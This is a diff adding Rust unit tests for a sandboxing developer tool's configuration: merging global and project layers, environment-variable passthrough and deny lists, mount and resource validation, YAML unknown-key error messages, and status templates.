+            ..Default::default()
+        };
+
+        assert_eq!(with(None).merge(with(Some(true))).sandbox.rpc_http, None);
+        assert_eq!(
+            with(Some(true)).merge(with(Some(false))).sandbox.rpc_http,
+            Some(true)
+        );
+    }
+
+    #[test]
+    fn test_rpc_bind_addr_parsing() {
+        let with = |addr: &str| SandboxConfig {
+            rpc_bind: Some(addr.to_string()),
+            ..Default::default()
+        };
+        assert_eq!(
+            with("172.17.0.1").rpc_bind_addr().unwrap().to_string(),
+            "172.17.0.1"
+        );
+        assert!(with("::1").rpc_bind_addr().unwrap().is_loopback());
+        let err = with("localhost").rpc_bind_addr().unwrap_err();
+        assert!(err.to_string().contains("sandbox.rpc_bind 'localhost'"));
+    }
+
     #[test]
     fn test_sandbox_image_global_only() {
         // Project config is ignored -- only global matters
@@ -2391,6 +3681,88 @@ mod tests {
         assert!(merged.sandbox.env_passthrough.is_none());
     }
 
+    #[test]
+    fn test_sandbox_env_passthrough_empty_project_keeps_global() {
+        let global = Config {
+            sandbox: SandboxConfig {
+                env_passthrough: Some(vec!["GITHUB_TOKEN".to_string()]),
+                env_passthrough_optional: Some(vec!["DATABASE_URL".to_string()]),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+        let project = Config {
+            sandbox: SandboxConfig {
+                env_passthrough: Some(vec![]),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+
+        let merged = global.merge(project);
+        assert_eq!(merged.sandbox.env_passthrough(), vec!["GITHUB_TOKEN"]);
+    }
+
+    #[test]
+    fn test_sandbox_env_passthrough_project_adds_optional() {
+        let global = Config {
+            sandbox: SandboxConfig {
+                env_passthrough: Some(vec!["GITHUB_TOKEN".to_string()]),
+                env_passthrough_optional: Some(vec!["DATABASE_URL".to_string()]),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+        let project = Config {
+            sandbox: SandboxConfig {
+                env_passthrough: Some(vec![
+                    "DATABASE_URL".to_string(),
+                    "GITHUB_TOKEN".to_string(),
+                    "AWS_SECRET_ACCESS_KEY".to_string(),
+                ]),
+                env_passthrough_optional: Some(vec!["AWS_SECRET_ACCESS_KEY".to_string()]),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+
+        let merged = global.merge(project);
+        assert_eq!(
+            merged.sandbox.env_passthrough(),
+            vec!["GITHUB_TOKEN", "DATABASE_URL"]
+        );
+        assert_eq!(
+            merged.sandbox.env_passthrough_optional,
+            Some(vec!["DATABASE_URL".to_string()])
+        );
+    }
+
+    #[test]
+    fn test_sandbox_env_deny_project_removes_global() {
+        let global = Config {
+            sandbox: SandboxConfig {
+                env_passthrough: Some(vec!["GITHUB_TOKEN".to_string(), "NPM_TOKEN".to_string()]),
+                env_deny: Some(vec!["NPM_TOKEN".to_string()]),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+        let project = Config {
+            sandbox: SandboxConfig {
+                env_deny: Some(vec!["GITHUB_TOKEN".to_string(), "NPM_TOKEN".to_string()]),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+
+        let merged = global.merge(project);
+        assert_eq!(
+            merged.sandbox.env_deny,
+            Some(vec!["NPM_TOKEN".to_string(), "GITHUB_TOKEN".to_string()])
+        );
+        assert!(merged.sandbox.env_passthrough().is_empty());
+    }
+
     #[test]
     fn test_sandbox_env_passthrough_uses_global() {
         let global = Config {
@@ -2484,6 +3856,25 @@ extra_mounts:
         assert!(!ro1);
     }
 
+    #[test]
+    fn test_validate_extra_mounts_rejects_missing_host_path() {
+        let tmp = tempfile::tempdir().unwrap();
+        let mut config = SandboxConfig {
+            extra_mounts: Some(vec![ExtraMount::Path(
+                tmp.path().to_string_lossy().into_owned(),
+            )]),
+            ..Default::default()
+        };
+        assert!(config.validate_extra_mounts().is_ok());
+
+        let missing = tmp.path().join("nope");
+        config.extra_mounts = Some(vec![ExtraMount::Path(
+            missing.to_string_lossy().into_owned(),
+        )]);
+        let err = config.validate_extra_mounts().unwrap_err();
+        assert!(err.to_string().contains("does not exist"), "{err}");
+    }
+
     #[test]
     fn test_extra_mounts_default_empty() {
         let config = SandboxConfig::default();
@@ -2696,6 +4087,36 @@ container:
         assert_eq!(merged.memory(), "4GiB");
     }
 
+    #[test]
+    fn parse_size_reads_binary_units() {
+        assert_eq!(parse_size("4GiB"), Some(4 << 30));
+        assert_eq!(parse_size("4G"), Some(4 << 30));
+        assert_eq!(parse_size("512mib"), Some(512 << 20));
+        assert_eq!(parse_size("1.5GiB"), Some(3 << 29));
+        assert_eq!(parse_size("1024"), Some(1024));
+        for bad in ["", "GiB", "4 lots", "0GiB", "-1GiB", "4.5.1G"] {
+            assert_eq!(parse_size(bad), None, "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn lima_validate_resources_rejects_bad_values() {
+        assert!(LimaConfig::default().validate_resources().is_ok());
+
+        let zero_cpus = LimaConfig {
+            cpus: Some(0),
+            ..Default::default()
+        };
+        assert!(zero_cpus.validate_resources().is_err());
+
+        let bad_memory = LimaConfig {
+            memory: Some("lots".to_string()),
+            ..Default::default()
+        };
+        let err = bad_memory.validate_resources().unwrap_err();
+        assert!(err.to_string().contains("'lots' is not a size"));
+    }
+
     #[test]
     fn sandbox_container_config_merge() {
         let global = ContainerConfig {
@@ -2881,6 +4302,43 @@ network:
 
     use super::{WindowConfig, validate_windows_config};
 
+    #[test]
+    fn unknown_key_is_rejected_with_suggestion() {
+        let yaml = "agent: claude\nsandbox:\n  enabled: true\n  env_passthru: [A]\n";
+        let err = serde_yaml::from_str::<Config>(yaml).unwrap_err();
+        assert_eq!(
+            describe_parse_error(&err, yaml),
+            ":4:3: unknown key `sandbox.env_passthru` (did you mean `env_passthrough`?)"
+        );
+    }
+
+    #[test]
+    fn unknown_top_level_key_is_located_in_source() {
+        let yaml = "# comment\nagnt: claude\n";
+        let err = serde_yaml::from_str::<Config>(yaml).unwrap_err();
+        assert_eq!(
+            describe_parse_error(&err, yaml),
+            ":2:1: unknown key `agnt` (did you mean `agent`?)"
+        );
+    }
+
+    #[test]
+    fn unknown_key_without_close_match_has_no_hint() {
+        let yaml = "panes:\n  - command: x\n    zzzzzzzz: true\n";
+        let err = serde_yaml::from_str::<Config>(yaml).unwrap_err();
+        assert_eq!(
+            describe_parse_error(&err, yaml),
+            ":3:5: unknown key `panes[0].zzzzzzzz`"
+        );
+    }
+
+    #[test]
+    fn omitted_keys_keep_defaults() {
+        let config: Config = serde_yaml::from_str("sandbox:\n  enabled: true\n").unwrap();
+        assert!(config.sandbox.is_enabled());
+        assert_eq!(config.sandbox.lima.cpus(), 4);
+    }
+
     #[test]
     fn parse_windows_config_named() {
         let yaml = r#"
@@ -2935,6 +4393,34 @@ windows:
         assert!(windows[1].name.is_none());
     }
 
+    #[test]
+    fn render_status_template_substitutes_and_collapses_gaps() {
+        let values = |name: &str| {
+            Ok(match name {
+                "glyph" => "🤖".to_string(),
+                "branch" => "feat".to_string(),
+                _ => String::new(),
+            })
+        };
+        assert_eq!(
+            render_status_template(DEFAULT_STATUS_TEMPLATE, values).unwrap(),
+            "🤖"
+        );
+        assert_eq!(
+            render_status_template("[{branch}] {glyph} {tokens} {cost}", values).unwrap(),
+            "[feat] 🤖"
+        );
+    }
+
+    #[test]
+    fn validate_status_template_rejects_unknown_placeholders() {
+        assert!(validate_status_template(DEFAULT_STATUS_TEMPLATE).is_ok());
+        assert!(validate_status_template("{status}: {branch}").is_ok());
+        let err = validate_status_template("{glyph} {model}").unwrap_err();
+        assert!(err.to_string().contains("'{model}'"), "{err}");
+        assert!(validate_status_template("{glyph").is_err());
+    }
+
     #[test]
     fn validate_windows_config_empty_errors() {
         let result = validate_windows_config(&[]);
@@ -2959,6 +4445,7 @@ windows:
                     size: None,
                     percentage: None,
                     target: None,
+                    role: None,
                 }]),
             },
             WindowConfig {
@@ -2970,6 +4457,7 @@ windows:
                     size: None,
                     percentage: None,
                     target: None,
+                    role: None,
                 }]),
             },
         ];
@@ -2987,6 +4475,7 @@ windows:
                 size: None,
                 percentage: None,
                 target: None,
+                role: None,
             }]),
         }];
         let result = validate_windows_config(&windows);
@@ -3004,6 +4493,7 @@ windows:
                 size: None,
                 percentage: None,
                 target: None,
+                role: None,
             }]),
             ..Default::default()
         };
@@ -3045,6 +4535,7 @@ windows:
                 size: None,
                 percentage: None,
                 target: None,
+                role: None,
             }]),
             ..Default::default()
         };
@@ -3070,4 +4561,49 @@ windows:
         assert!(merged.windows.is_some());
         assert!(merged.panes.is_none());
     }
+
+    #[test]
+    fn value_origins_attribute_each_value_to_its_layer() {
+        let tmp = tempfile::tempdir().unwrap();
+        let global_path = tmp.path().join("config.yaml");
+        let project_path = tmp.path().join(".workmux.toml");
+        fs::write(
+            &global_path,
+            "window_prefix: g-\npost_create: [a]\nsandbox:\n  lima_home: /lima\n",
+        )
+        .unwrap();
+        fs::write(
+            &project_path,
+            "worktree_dir = \"trees\"\npost_create = [\"<global>\", \"b\"]\n\
+             [sandbox]\nlima_home = \"/evil\"\n",
+        )
+        .unwrap();
+        let global = ConfigLayer::read(global_path.clone()).unwrap();
+        let project = ConfigLayer::read(project_path.clone()).unwrap();
+
+        let merged = Config::load_from_path(&global_path)
+            .unwrap()
+            .unwrap()
+            .merge(Config::load_from_path(&project_path).unwrap().unwrap());
+        let effective = serde_yaml::to_value(&merged).unwrap();
+        let origins = value_origins(&effective, Some(&global), Some(&project));
+        let origin = |key: &str| {
+            origins
+                .iter()
+                .find(|v| v.key == key)
+                .map(|v| v.origin.to_string())
+        };
+
+        let global_origin = format!("global:{}", global_path.display());
+        let project_origin = format!("project:{}", project_path.display());
+        assert_eq!(origin("window_prefix"), Some(global_origin.clone()));
+        assert_eq!(origin("worktree_dir"), Some(project_origin.clone()));
+        assert_eq!(origin("sandbox.lima_home"), Some(global_origin.clone()));
+        assert_eq!(
+            origin("post_create"),
+            Some(format!("{} + {}", global_origin, project_origin))
+        );
+        assert_eq!(origin("worktree_naming").as_deref(), Some("default"));
+        assert_eq!(origin("main_branch"), None);
+    }
 }